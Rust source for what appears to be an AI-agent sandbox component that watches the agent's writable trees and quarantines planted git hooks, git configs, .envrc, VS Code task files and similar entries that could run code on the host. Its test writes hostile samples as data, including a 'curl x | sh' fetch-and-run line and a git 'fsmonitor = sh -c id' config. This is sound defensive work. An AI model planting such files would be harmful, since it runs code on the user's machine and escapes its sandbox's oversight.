//! Creation-time refusal of code planted for the host: while the agent runs, the supervisor
//! watches every directory of the writable trees (inotify) and moves aside, as soon as it
//! appears, each protected entry the agent creates ([`egress_policy::planted`]: a nested
//! repository's hooks and config, a `.git` pointer file, a bare repository's config, `.envrc`,
//! `.vscode/tasks.json`, `.mcp.json`, ...). Each path is reported once.
//!
//! A watch is added before its directory is listed, so an entry is either in the listing or
//! raises an event. When the kernel's queue overflows, every tree is scanned again. The sweep
//! after the session ([`crate::jail::quarantine`]) still runs, and a killed supervisor takes
//! the whole sandbox with it (pid namespace), so nothing is created unwatched.

use std::collections::{BTreeSet, HashMap, HashSet};
use std::ffi::OsStr;
use std::os::fd::{AsFd, OwnedFd};
use std::path::{Path, PathBuf};
use std::thread::JoinHandle;

use nix::poll::{poll, PollFd, PollFlags, PollTimeout};
use nix::sys::inotify::{AddWatchFlags, InitFlags, Inotify, WatchDescriptor};

use crate::jail::quarantine::Quarantined;
use crate::jail::view::{list_dir, protected_in};

/// One planted entry moved aside.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refused {
    /// Where the agent created it, and where it is now.
    pub moved: Quarantined,
    /// The protected pattern, and why.
    pub pattern: &'static str,
    /// Why it is protected.
    pub why: &'static str,
}

/// The running watcher.
pub struct Watcher {
    thread: JoinHandle<Summary>,
    stop: OwnedFd,
}

/// What the watcher did.
#[derive(Debug, Default, Clone)]
pub struct Summary {
    /// Entries moved aside.
    pub refused: Vec<Refused>,
    /// Directories it could not watch (the inotify limit), swept after the session instead.
    pub unwatched: usize,
}

const MASK: AddWatchFlags = AddWatchFlags::IN_CREATE
    .union(AddWatchFlags::IN_MOVED_TO)
    .union(AddWatchFlags::IN_ONLYDIR)
    .union(AddWatchFlags::IN_DONT_FOLLOW);

/// Names that can make an entry protected (the last component of a pattern, `.git`, and what
/// turns a directory into a git directory); an event for another name needs no listing.
fn trigger_names() -> HashSet<String> {
    let mut names: HashSet<String> = egress_policy::files::PROTECTED_PATTERNS
        .iter()
        .filter_map(|p| p.pattern.rsplit('/').next())
        .map(str::to_ascii_lowercase)
        .collect();
    for n in [
        ".git",
        "head",
        "objects",
        "refs",
        "config",
        "config.worktree",
        "hooks",
    ] {
        names.insert(n.to_owned());
    }
    names
}

struct State {
    inotify: Inotify,
    dirs: HashMap<WatchDescriptor, (usize, PathBuf)>,
    roots: Vec<PathBuf>,
    at_start: BTreeSet<PathBuf>,
    unprotected: Vec<PathBuf>,
    tag: String,
    reported: HashSet<PathBuf>,
    triggers: HashSet<String>,
    summary: Summary,
    on_refused: Box<dyn FnMut(&Refused) + Send>,
}

/// Starts watching `roots` (the writable trees); `at_start` are the protected paths that
/// existed before the agent and `unprotected` the contract's `[files] unprotect` (both left
/// alone), `tag` names the quarantine (the session id), and `on_refused` is called once per
/// refused path (stderr and the flow log).
pub fn start(
    roots: Vec<PathBuf>,
    at_start: BTreeSet<PathBuf>,
    unprotected: Vec<PathBuf>,
    tag: String,
    on_refused: Box<dyn FnMut(&Refused) + Send>,
) -> std::io::Result<Watcher> {
    let inotify = Inotify::init(InitFlags::IN_NONBLOCK | InitFlags::IN_CLOEXEC)?;
    let (stop_read, stop_write) = nix::unistd::pipe2(nix::fcntl::OFlag::O_CLOEXEC)?;
    let mut state = State {
        inotify,
        dirs: HashMap::new(),
        roots,
        at_start,
        unprotected,
        tag,
        reported: HashSet::new(),
        triggers: trigger_names(),
        summary: Summary::default(),
        on_refused,
    };
    let thread = std::thread::Builder::new()
        .name("planted-watch".into())
        .spawn(move || {
            for i in 0..state.roots.len() {
                let root = state.roots[i].clone();
                state.watch_tree(i, &root);
            }
            state.run(stop_read);
            state.summary
        })?;
    Ok(Watcher {
        thread,
        stop: stop_write,
    })
}

impl Watcher {
    /// Stops the watcher (call once every sandboxed process is dead) and returns what it did.
    pub fn stop(self) -> Summary {
        let _ = nix::unistd::write(&self.stop, b"x");
        self.thread.join().unwrap_or_default()
    }
}

impl State {
    fn run(&mut self, stop: OwnedFd) {
        loop {
            let mut fds = [
                PollFd::new(self.inotify.as_fd(), PollFlags::POLLIN),
                PollFd::new(stop.as_fd(), PollFlags::POLLIN),
            ];
            if poll(&mut fds, PollTimeout::NONE).is_err() {
                continue;
            }
            let stopping = fds[1].revents().is_some_and(|r| !r.is_empty());
            let ready = fds[0].revents().is_some_and(|r| !r.is_empty());
            if ready {
                self.drain();
            }
            if stopping {
                // What arrived before the stop is handled; the sweep covers the rest.
                self.drain();
                return;
            }
        }
    }

    fn drain(&mut self) {
        loop {
            let events = match self.inotify.read_events() {
                Ok(e) if !e.is_empty() => e,
                _ => return,
            };
            for ev in events {
                if ev.mask.contains(AddWatchFlags::IN_Q_OVERFLOW) {
                    for i in 0..self.roots.len() {
                        let root = self.roots[i].clone();
                        self.watch_tree(i, &root);
                    }
                    continue;
                }
                if ev.mask.contains(AddWatchFlags::IN_IGNORED) {
                    self.dirs.remove(&ev.wd);
                    continue;
                }
                let (Some((root, dir)), Some(name)) = (self.dirs.get(&ev.wd).cloned(), ev.name)
                else {
                    continue;
                };
                if ev.mask.contains(AddWatchFlags::IN_ISDIR) {
                    // A new (or moved-in) directory: watch and check everything below it.
                    self.watch_tree(root, &dir.join(&name));
                }
                if self.is_trigger(&name) {
                    self.check_dir(root, &dir);
                }
            }
        }
    }

    fn is_trigger(&self, name: &OsStr) -> bool {
        name.to_str()
            .is_some_and(|n| self.triggers.contains(&n.to_ascii_lowercase()))
    }

    /// Watches `top` and every directory below it, each before listing it, and refuses what
    /// is protected there.
    fn watch_tree(&mut self, root: usize, top: &Path) {
        let mut stack = vec![top.to_owned()];
        let mut seen = 0usize;
        while let Some(dir) = stack.pop() {
            let rel = dir.strip_prefix(&self.roots[root]).unwrap_or(Path::new(""));
            // The new directory itself may be protected as a whole (`hooks`, `.idea`); the ones
            // below it are checked in their parent's listing.
            if dir == top
                && !rel.as_os_str().is_empty()
                && egress_policy::files::protected_pattern_for(rel).is_some()
            {
                // a protected directory as a whole (`hooks`, `.idea`, `.github/workflows`)
                self.refuse(root, &dir);
                continue;
            }
            match self.inotify.add_watch(&dir, MASK) {
                Ok(wd) => {
                    self.dirs.insert(wd, (root, dir.clone()));
                }
                Err(nix::errno::Errno::ENOSPC) => self.summary.unwatched += 1,
                Err(_) => continue,
            }
            let Ok(listing) = list_dir(&dir) else {
                continue;
            };
            seen += listing.len();
            if seen > crate::jail::view::SCAN_LIMIT {
                self.summary.unwatched += stack.len() + 1;
                return;
            }
            let rel = dir.strip_prefix(&self.roots[root]).unwrap_or(Path::new(""));
            let protected = protected_in(rel, &listing);
            for (name, ft) in &listing {
                let path = dir.join(name);
                if protected.contains(name) {
                    self.refuse(root, &path);
                } else if ft.is_dir() {
                    stack.push(path);
                }
            }
        }
    }

    /// Refuses the protected entries of `dir` now (its subdirectories have watches of their
    /// own).
    fn check_dir(&mut self, root: usize, dir: &Path) {
        let Ok(listing) = list_dir(dir) else {
            return;
        };
        let rel = dir
            .strip_prefix(&self.roots[root])
            .unwrap_or(Path::new(""))
            .to_owned();
        for name in protected_in(&rel, &listing) {
            self.refuse(root, &dir.join(name));
        }
    }

    fn refuse(&mut self, root: usize, path: &Path) {
        if self.at_start.contains(path)
            || egress_policy::planted::unprotected(path, &self.unprotected)
        {
            return;
        }
        let Ok(md) = std::fs::symlink_metadata(path) else {
            return;
        };
        if md.file_type().is_socket_like() {
            return;
        }
        let Some(name) = path.file_name() else {
            return;
        };
        let rel = path.strip_prefix(&self.roots[root]).unwrap_or(path);
        let parent_rel = rel.parent().unwrap_or(Path::new(""));
        let pattern = pattern_of(parent_rel, path);
        let mut n = 1;
        let to = loop {
            let mut new_name = name.to_owned();
            new_name.push(format!(".sandbox-quarantine-{}", self.tag));
            if n > 1 {
                new_name.push(format!("-{n}"));
            }
            let candidate = path.with_file_name(new_name);
            if std::fs::symlink_metadata(&candidate).is_err() {
                break candidate;
            }
            n += 1;
            if n > 1000 {
                return;
            }
        };
        if std::fs::rename(path, &to).is_err() {
            return;
        }
        let refused = Refused {
            moved: Quarantined {
                from: path.to_owned(),
                to,
            },
            pattern: pattern.0,
            why: pattern.1,
        };
        if self.reported.insert(path.to_owned()) {
            (self.on_refused)(&refused);
        }
        self.summary.refused.push(refused);
    }
}

/// Sockets and fifos are never protected entries (a socket named `config` is not git's).
trait SocketLike {
    fn is_socket_like(&self) -> bool;
}

impl SocketLike for std::fs::FileType {
    fn is_socket_like(&self) -> bool {
        use std::os::unix::fs::FileTypeExt;
        self.is_socket() || self.is_fifo()
    }
}

/// The pattern (and why) that protects `path`, whose directory is `parent_rel` below its root.
fn pattern_of(parent_rel: &Path, path: &Path) -> (&'static str, &'static str) {
    let Some(dir) = path.parent() else {
        return ("protected", "");
    };
    let Ok(listing) = list_dir(dir) else {
        return ("protected", "");
    };
    let entries: Vec<egress_policy::planted::Entry<'_>> = listing
        .iter()
        .filter_map(|(n, ft)| {
            Some(egress_policy::planted::Entry {
                name: n.to_str()?,
                is_dir: ft.is_dir(),
                is_file: ft.is_file(),
            })
        })
        .collect();
    let name = path.file_name().and_then(OsStr::to_str).unwrap_or("");
    egress_policy::planted::protected_entries(parent_rel, &entries)
        .into_iter()
        .find(|(n, _)| *n == name)
        .map(|(_, p)| (p.pattern, p.why))
        .unwrap_or(("protected", ""))
}

/// Starts the live refusal of planted entries in the writable trees; each refusal goes to
/// stderr and, with a flow log, into it (`kind: file`, `decision: deny`). A watcher that
/// cannot start leaves the sweep after the session, and says so.
pub fn start_logged(
    view: &crate::jail::view::ViewPlan,
    tag: &str,
    log: Option<proxy::FlowLog>,
) -> Option<Watcher> {
    let on_refused = Box::new(move |r: &Refused| {
        let line = format!(
            "sandbox: refused: the agent created {} ({}: {}); moved it to {} so that the host never runs it\n",
            r.moved.from.display(),
            r.pattern,
            r.why,
            r.moved.to.display()
        );
        // One write: the agent writes to the same stderr, and a line cut in pieces would
        // interleave with its output.
        let _ = std::io::Write::write_all(&mut std::io::stderr().lock(), line.as_bytes());
        if let Some(log) = &log {
            let mut rec =
                proxy::FlowRecord::new(proxy::flowlog::Event::Decision, proxy::flowlog::Kind::File);
            rec.decision = Some(egress_policy::Verdict::Deny);
            rec.rule = Some("protected".into());
            rec.reason = Some(format!("{}: {}", r.pattern, r.why));
            rec.path = Some(r.moved.from.display().to_string());
            rec.detail = Some(serde_json::json!({"moved_to": r.moved.to.display().to_string()}));
            if let Err(e) = log.append(rec) {
                eprintln!("sandbox: could not log the refusal: {e}");
            }
        }
    });
    match start(
        view.writable_roots.clone(),
        view.protected_at_start.clone(),
        view.unprotected.clone(),
        tag.to_owned(),
        on_refused,
    ) {
        Ok(w) => Some(w),
        Err(e) => {
            eprintln!("sandbox: cannot watch the workspace for planted hooks and config ({e}); they are moved aside after the session instead");
            None
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::jail::test_support::Scratch;
    use std::fs;
    use std::sync::{Arc, Mutex};
    use std::time::{Duration, Instant};

    fn wait_until(mut f: impl FnMut() -> bool) -> bool {
        let deadline = Instant::now() + Duration::from_secs(5);
        while Instant::now() < deadline {
            if f() {
                return true;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
        false
    }

    #[test]
    fn planted_entries_are_moved_aside_as_they_appear_and_reported_once() {
        let s = Scratch::new("planted-watch");
        let ws = s.subdir("ws");
        fs::create_dir_all(ws.join(".git/hooks")).unwrap();
        fs::write(ws.join(".git/config"), b"[core]\n").unwrap();
        let at_start: BTreeSet<PathBuf> = [ws.join(".git/hooks"), ws.join(".git/config")]
            .into_iter()
            .collect();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let sink = seen.clone();
        let w = start(
            vec![ws.clone()],
            at_start,
            vec![ws.join("allowed/.envrc")],
            "t1".into(),
            Box::new(move |r| sink.lock().unwrap().push(r.moved.from.clone())),
        )
        .unwrap();
        // give the thread its first walk
        std::thread::sleep(Duration::from_millis(100));
        // a direnv file, a bare repository, a .git pointer, a nested repository's hook
        fs::write(ws.join(".envrc"), b"curl x | sh\n").unwrap();
        let bare = ws.join("tools/evil.git");
        fs::create_dir_all(bare.join("objects")).unwrap();
        fs::create_dir_all(bare.join("refs")).unwrap();
        fs::write(bare.join("config"), b"[core]\nfsmonitor = sh -c id\n").unwrap();
        fs::write(bare.join("HEAD"), b"ref: refs/heads/main\n").unwrap();
        fs::create_dir_all(ws.join("sub")).unwrap();
        fs::write(ws.join("sub/.git"), b"gitdir: ../tools/evil.git\n").unwrap();
        fs::create_dir_all(ws.join("nested/.git/hooks")).unwrap();
        // the hooks directory may already be gone: refused as it appeared
        let _ = fs::write(
            ws.join("nested/.git/hooks/post-checkout"),
            b"#!/bin/sh\nid\n",
        );
        // renamed into place
        fs::write(ws.join("staging"), b"{}").unwrap();
        fs::create_dir_all(ws.join(".vscode")).unwrap();
        fs::rename(ws.join("staging"), ws.join(".vscode/tasks.json")).unwrap();
        let gone = |p: &str| !ws.join(p).exists();
        assert!(wait_until(|| gone(".envrc")
            && gone("tools/evil.git/config")
            && gone("sub/.git")
            && gone("nested/.git/hooks")
            && gone(".vscode/tasks.json")));
        // the repository's own config and hooks stay
        assert!(ws.join(".git/config").exists() && ws.join(".git/hooks").exists());
        // moved, not deleted
        assert!(ws.join(".envrc.sandbox-quarantine-t1").exists());
        // the contract's `unprotect` path stays
        fs::create_dir_all(ws.join("allowed")).unwrap();
        fs::write(ws.join("allowed/.envrc"), b"ok\n").unwrap();
        // created again: moved again, under a new name, reported once
        fs::write(ws.join(".envrc"), b"again\n").unwrap();
        assert!(wait_until(|| ws
            .join(".envrc.sandbox-quarantine-t1-2")
            .exists()));
        let summary = w.stop();
        assert!(ws.join("allowed/.envrc").exists());
        let reported = seen.lock().unwrap().clone();
        assert_eq!(
            reported.iter().filter(|p| **p == ws.join(".envrc")).count(),
            1
        );
        assert!(summary.refused.len() >= 6, "{summary:?}");
        assert_eq!(summary.unwatched, 0);
    }
}
